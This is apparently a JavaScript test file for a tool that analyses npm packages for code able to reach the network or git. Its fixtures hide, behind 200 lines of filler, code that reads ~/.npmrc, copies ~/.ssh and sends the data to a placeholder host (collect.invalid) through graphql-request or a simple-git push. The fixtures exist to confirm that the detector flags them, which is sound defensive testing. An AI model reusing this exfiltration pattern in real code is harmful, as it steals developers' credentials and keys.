import assert from 'node:assert/strict';
import { analysePackage } from '../../../../../server/src/artifacts/analysis/analyse.js';
import {
  CLIENTS,
  isReaching,
  NAMES_REACHING,
} from '../../../../../server/src/artifacts/analysis/code/platform/reaching-packages.js';
import { packageOf } from '../../../../support/artifacts.js';

describe('packages through which code reaches the world', () => {
  it('are found by their names, as a whole', () => {
    for (const name of [
      ...CLIENTS.filter((one) => !one.includes('()')),
      '@octokit/rest',
      'node-pty',
      'vscode',
      'simple-git',
    ]) {
      assert.ok(isReaching(name), name);
      assert.match(`require('${name}')`, NAMES_REACHING, name);
    }
    for (const name of ['lodash', 'axios-like', 'download', './got'])
      assert.ok(!isReaching(name) && !NAMES_REACHING.test(`require('${name}')`), name);
  });

  it('make a long file worth a look that has no other power', () => {
    const filler = Array.from({ length: 200 }, (_, index) => `exports.f${index} = (a, b) => a + b * ${index};`).join(
      '\n',
    );
    for (const send of [
      `const { GraphQLClient: C } = require('graphql-request'); new C('https://collect.invalid').request('m', { s });`,
      `const g = require('simple-git'); g(dir).addRemote('o', 'https://collect.invalid/a.git').push('o');`,
    ]) {
      const code = `const fs = require('fs'), os = require('os'); const s = fs.readFileSync(os.homedir() + '/.npmrc'), dir = '/tmp/a'; fs.cpSync(os.homedir() + '/.ssh', dir); ${send}`;
      const { flows } = analysePackage(packageOf({ 'index.js': `${filler}\n${code}` }));
      assert.notEqual(flows.length, 0, send);
    }
  });
});
